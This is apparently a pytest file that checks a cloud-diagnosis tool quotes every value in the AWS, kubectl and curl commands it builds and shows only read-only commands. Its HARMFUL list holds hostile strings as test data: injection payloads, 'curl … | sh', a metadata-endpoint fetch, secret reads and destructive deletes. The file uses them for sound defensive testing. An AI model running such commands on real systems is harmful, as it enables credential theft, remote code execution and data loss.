"""Commands that are shown have every value quoted, and those that others wrote are shown only where they can do no harm."""

import ast
import shlex
from pathlib import Path

import pytest

import irsa_doctor
from irsa_doctor.model.commands import NAMED_SECRETS, is_command, is_plain_read, shell_command

PROGRAMS = ("aws ", "kubectl ", "curl ", "az ", "gcloud ")
SOURCES = sorted(Path(irsa_doctor.__file__).parent.rglob("*.py"))


def spliced_commands(source):
    """The lines of a module that put values into the text of a command by other ways than `shell_command`."""
    for node in ast.walk(ast.parse(source)):
        if isinstance(node, ast.JoinedStr) and len(node.values) > 1:
            first = node.values[0]
        elif isinstance(node, ast.BinOp) and isinstance(node.op, ast.Add):
            first = node.left
        else:
            continue
        if isinstance(first, ast.Constant) and isinstance(first.value, str) and first.value.startswith(PROGRAMS):
            yield node.lineno


@pytest.mark.parametrize("path", SOURCES, ids=lambda path: str(path.relative_to(SOURCES[0].parent)))
def test_no_value_is_spliced_into_a_command_as_it_is(path):
    assert list(spliced_commands(path.read_text(encoding="utf-8"))) == []


def test_each_value_is_one_word_whatever_it_holds():
    name = "a b'; $(id) `id` {} \n"
    assert shlex.split(shell_command("aws iam get-role --role-name {}", name)) == [
        "aws",
        "iam",
        "get-role",
        "--role-name",
        name,
    ]
    assert shell_command("aws iam get-role --role-name {}", "--endpoint-url") == ""


PLAIN = [
    "aws iam get-role --role-name app",
    "aws eks describe-cluster --name 'a b' --region eu-west-1",
    "kubectl get pods -n shop -o json",
    "kubectl get --raw /openid/v1/jwks",
    "curl https://oidc.example/.well-known/openid-configuration",
    NAMED_SECRETS,
]


@pytest.mark.parametrize("how", PLAIN)
def test_a_command_that_only_reads_is_shown(how):
    assert is_command(how)
    assert is_plain_read(how)


HARMFUL = [
    "aws iam get-role --role-name app; id",
    "aws iam get-role --role-name $(id)",
    "aws iam get-role --role-name app | sh",
    "aws iam get-role --role-name app > ~/.bashrc",
    "aws iam get-role --role-name 'app",
    "aws iam get-role --role-name app\nid",
    "aws iam delete-role --role-name app",
    "aws iam get-role --role-name app --endpoint-url https://made-up.example",
    "aws --endpoint-url=https://made-up.example iam get-role",
    "aws sts get-session-token",
    "aws secretsmanager get-secret-value --secret-id app",
    "kubectl delete namespace shop",
    "kubectl get pods --kubeconfig made-up",
    "kubectl get pods -A -o=go-template-file=made-up",
    "curl http://169.254.169.254/latest/meta-data",
    "curl https://made-up.example -o /tmp/x",
    "curl https://made-up.example | sh",
    "terraform destroy",
    "aws",
]


@pytest.mark.parametrize("how", HARMFUL)
def test_a_command_that_does_more_is_not(how):
    assert not is_plain_read(how)


@pytest.mark.parametrize("how", ["'aws' iam list-roles", "kubectl\tget pods", " curl https://made-up.example", "aws 'iam"])
def test_a_command_is_one_however_its_first_word_is_written(how):
    assert is_command(how)


@pytest.mark.parametrize("how", ["a longer --timeout", "", "run aws iam get-role with the name of the role"])
def test_a_sentence_is_no_command(how):
    assert not is_command(how)
